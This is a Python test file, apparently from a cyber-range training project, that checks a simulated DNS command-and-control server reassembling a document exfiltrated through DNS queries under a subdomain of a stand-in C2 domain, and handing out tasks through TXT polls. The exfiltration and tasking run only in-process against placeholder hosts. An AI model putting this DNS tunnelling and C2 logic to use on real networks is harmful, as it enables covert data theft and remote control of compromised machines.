"""The DNS C2 server reads tunnels under a subdomain of its domain (pure: DnsC2.answer, no socket).

Found by a drill on a playbook nobody here wrote for: `domain: x.moc-update.example` against a
c2-dns service for `moc-update.example` passed `playbook check` ("the C2 domain or below it"), but
the server logged every query as `other` (it looked for the `d`/`f` marker right below its
domain), so the exfiltration ended `failed` with nothing reassembled."""
from __future__ import annotations

import hashlib

from scapy.layers.dns import DNS, DNSQR

from cyberrange.attack.techniques.exfil import dns_names
from cyberrange.services.c2 import DnsC2, JsonLog, Store, tunnel_labels


class _Log(JsonLog):
    def __init__(self):
        super().__init__(None)
        self.kinds: list[str] = []

    def write(self, **rec) -> None:
        if "qname" in rec:
            self.kinds.append(rec["kind"])


def _ask(server: DnsC2, name: str, qtype: str = "A"):
    reply = DNS(server.answer(bytes(DNS(id=7, rd=1, qd=DNSQR(qname=name, qtype=qtype))), "10.0.0.9"))
    return (reply.an[0].rdata if reply.an else None), reply.rcode


def _exfil(client_domain: str, tmp_path):
    log = _Log()
    server = DnsC2("moc-update.example", log, Store(tmp_path))
    doc = b"SECRET//NOFORN ballast plan " * 20
    answers = [_ask(server, n)[0] for n in dns_names(doc, "6c556a6d", client_domain, 60)]
    return answers, log.kinds, (tmp_path / "6c556a6d.bin").read_bytes(), doc


def test_exfil_under_a_subdomain_is_reassembled(tmp_path):
    answers, kinds, stored, doc = _exfil("x.moc-update.example", tmp_path)
    assert answers[-1] == "10.0.0.1" and set(kinds[:-1]) == {"data"} and kinds[-1] == "end"
    assert hashlib.sha256(stored).digest() == hashlib.sha256(doc).digest()


def test_exfil_right_below_the_domain_still_works(tmp_path):
    answers, kinds, stored, doc = _exfil("moc-update.example", tmp_path)
    assert answers[-1] == "10.0.0.1" and kinds[-1] == "end" and stored == doc


def test_poll_under_a_subdomain_gets_a_task_and_outside_names_are_refused(tmp_path):
    log = _Log()
    server = DnsC2("moc-update.example", log, Store(tmp_path))
    rdata, _ = _ask(server, "ab12.s1.p.cdn.moc-update.example", "TXT")
    assert rdata and b"task" in (rdata[0] if isinstance(rdata, list) else rdata)
    assert _ask(server, "ab12.s1.p.moc-update.example.evil")[1] == 5     # REFUSED
    assert log.kinds == ["poll", "refused"]


def test_tunnel_labels_leaves_other_names_alone():
    assert tunnel_labels(["www"]) == ["www"]
    assert tunnel_labels(["abc", "1", "s", "d"]) == ["abc", "1", "s", "d"]
    assert tunnel_labels(["abc", "1", "s", "d", "x", "y"]) == ["abc", "1", "s", "d"]
    assert tunnel_labels(["zz", "qq", "d", "x"]) == ["zz", "qq", "d", "x"]    # 'zz' no seq
